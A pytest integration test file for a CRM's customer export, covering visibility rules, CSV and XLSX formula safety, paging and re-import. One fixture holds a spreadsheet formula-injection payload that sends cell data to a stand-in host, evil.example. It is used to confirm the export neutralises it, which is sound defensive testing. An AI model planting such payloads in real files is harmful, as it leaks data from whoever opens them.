"""Customer export on SQLite and PostgreSQL: visibility (an agent cannot export another agent's
private customer), CSV with BOM and formula-safe cells (phones included, still readable), XLSX with
typed string cells, paging past one page, and an exported file importing back unchanged."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from crm_support import Crm
from openpyxl import load_workbook
from sqlalchemy.orm import Session, sessionmaker

import crm_core.customer_export as export_module
from crm_core.customer_export import (
    EXPORT_COLUMNS,
    csv_chunks,
    export_rows,
    write_csv,
    write_xlsx,
)
from crm_core.customer_import import CustomerImporter, ImportOptions
from crm_core.customer_rules import CustomerDraft
from crm_core.users import Role

pytestmark = pytest.mark.integration

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture
def crm(db_sessions: sessionmaker[Session]) -> Crm:
    crm = Crm(db_sessions)
    alice, bob = crm.user("alice"), crm.user("bob")
    crm.user("root", Role.ADMIN)
    crm.customers.create(
        alice,
        CustomerDraft(
            name="北京甲科技有限公司",
            kind="company",
            phones=("13800138000", "010-12345678 转 8"),
            emails=("a@jia.cn",),
            tags=("VIP", "北京"),
            vip_level=3,
            city="北京",
            custom_fields={"行业": "IT"},
        ),
    )
    crm.customers.create(alice, CustomerDraft(name=EVIL, phones=("+8613900139000",)))
    crm.customers.create(bob, CustomerDraft(name="bob-private", phones=("13700137000",)))
    crm.customers.create(bob, CustomerDraft(name="pool", shared_pool=True))
    return crm


def names(rows: list[tuple[str, ...]]) -> set[str]:
    return {row[EXPORT_COLUMNS.index("name")] for row in rows}


def test_given_agent_when_exporting_then_only_own_and_pool_customers(crm: Crm) -> None:
    alice_sees = names(list(export_rows(crm.sessions, crm.people["alice"])))
    assert alice_sees == {"北京甲科技有限公司", EVIL, "pool"}
    assert "bob-private" not in alice_sees
    assert names(list(export_rows(crm.sessions, crm.people["bob"]))) == {"bob-private", "pool"}
    everyone = {"北京甲科技有限公司", EVIL, "bob-private", "pool"}
    assert names(list(export_rows(crm.sessions, crm.people["root"]))) == everyone
    assert names(list(export_rows(crm.sessions, None))) == everyone


def test_given_merged_customer_when_exporting_then_left_out(crm: Crm) -> None:
    alice = crm.people["alice"]
    kept = crm.customers.create(alice, CustomerDraft(name="Keep", phones=("13600136000",)))
    gone = crm.customers.create(alice, CustomerDraft(name="Gone", phones=("13500135000",)))
    crm.merges.merge(crm.people["root"], kept.id, gone.id)
    assert "Gone" not in names(list(export_rows(crm.sessions, alice)))


def test_given_csv_export_then_bom_formula_safe_cells_and_readable_phones(
    crm: Crm, tmp_path: Path
) -> None:
    path = tmp_path / "out.csv"
    assert write_csv(export_rows(crm.sessions, crm.people["alice"]), path) == 3
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbfhotline_id,name,")
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    by_name = {row["name"]: row for row in rows}
    jia = by_name["北京甲科技有限公司"]
    assert jia["phone"] == "'+8613800138000; +861012345678 ext 8"
    assert jia["email"] == "a@jia.cn"
    assert jia["owner"] == "alice"
    assert jia["tags"] == "vip; 北京"
    assert jia["custom_fields"] == '{"行业": "IT"}'
    assert "'" + EVIL in by_name
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row.values())


def test_given_xlsx_export_then_every_cell_is_a_string_never_a_formula(
    crm: Crm, tmp_path: Path
) -> None:
    path = tmp_path / "out.xlsx"
    assert write_xlsx(export_rows(crm.sessions, crm.people["alice"]), path) == 3
    sheet = load_workbook(path).active
    header = [c.value for c in sheet[1]]
    assert tuple(header) == EXPORT_COLUMNS
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row if c.value is not None]
    assert {c.data_type for c in cells} == {"s"}
    values = {c.value for c in cells}
    assert EVIL in values  # as typed: an XLSX string cell is never evaluated
    assert "+8613900139000" in values


def test_given_more_customers_than_a_page_when_exporting_then_all_in_order(
    crm: Crm, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(export_module, "PAGE_SIZE", 2)
    rows = list(export_rows(crm.sessions, None))
    ids = [int(row[0]) for row in rows]
    assert len(ids) == 4
    assert ids == sorted(ids)


def test_csv_chunks_join_to_the_same_file_as_write_csv(crm: Crm, tmp_path: Path) -> None:
    path = tmp_path / "out.csv"
    write_csv(export_rows(crm.sessions, None), path)
    chunks = list(csv_chunks(export_rows(crm.sessions, None), rows_per_chunk=1))
    assert len(chunks) == 5
    assert b"".join(chunks).replace(b"\r\n", b"\n") == path.read_bytes().replace(b"\r\n", b"\n")


@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_given_exported_file_when_imported_again_then_everything_merges(
    crm: Crm, tmp_path: Path, suffix: str
) -> None:
    path = tmp_path / f"out.{suffix}"
    writer = write_csv if suffix == "csv" else write_xlsx
    writer(export_rows(crm.sessions, None), path)
    summary = CustomerImporter(crm.sessions, crm.clock).run(
        path, ImportOptions(rejects_path=tmp_path / "rejects.csv")
    )
    assert summary.ignored_columns == ["hotline_id", "custom_fields", "created_at", "updated_at"]
    assert (summary.rows, summary.merged) == (4, 3)
    # The pool customer has no phone or email: matched by name alone, so flagged, not merged.
    assert (summary.imported, summary.flagged, summary.rejected) == (0, 1, 0)
